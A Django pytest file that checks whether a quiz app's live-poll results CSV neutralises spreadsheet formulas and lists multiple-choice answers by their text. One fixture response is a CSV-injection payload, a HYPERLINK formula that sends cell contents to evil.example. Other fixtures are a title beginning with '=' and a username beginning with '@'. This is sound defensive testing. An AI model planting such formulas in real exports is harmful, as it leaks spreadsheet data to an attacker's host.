"""The live-poll results CSV: no cell a spreadsheet would run as a formula, and answers as the choices' texts."""

import csv
import io
import textwrap

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone

from quizzes.models import PollResponse, PollSession
from quizzes.services import gift_import
from tests.quizzes.conftest import question

pytestmark = pytest.mark.django_db

GIFT = textwrap.dedent("""\
    ::=Capital::Which city is the capital of France?{=Paris}

    ::Services::Which are AWS services?{
    ~%50%Lambda
    ~%-100%Excel
    ~%50%S3
    }
    """)


def test_results_csv_neutralises_formulas_and_names_the_choices(client, instructor, course):
    gift_import(course=course, text=GIFT)
    client.force_login(instructor)
    ids = [question("=Capital").id, question("Services").id]
    client.post(reverse("quizzes:poll_create", args=["demo"]), {"title": "Poll", "questions": ids})
    session = PollSession.objects.get()
    mallory = get_user_model().objects.create(username="@mallory")
    choices = {c["text"]: c["id"] for c in question("Services").spec["choices"]}
    now = timezone.now()
    PollResponse.objects.create(
        session=session, question=question("=Capital"), user=mallory,
        response='=HYPERLINK("https://evil.example/?"&A1,"click")', answered_at=now,
    )  # fmt: skip
    PollResponse.objects.create(
        session=session, question=question("Services"), user=mallory,
        response=[choices["Lambda"], choices["S3"]], answered_at=now,
    )  # fmt: skip

    response = client.get(reverse("quizzes:poll_results_csv", args=[session.code]))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:3] == ["'=Capital", "'@mallory", '\'=HYPERLINK("https://evil.example/?"&A1,"click")']
    assert rows[2][:3] == ["Services", "'@mallory", "Lambda; S3"]
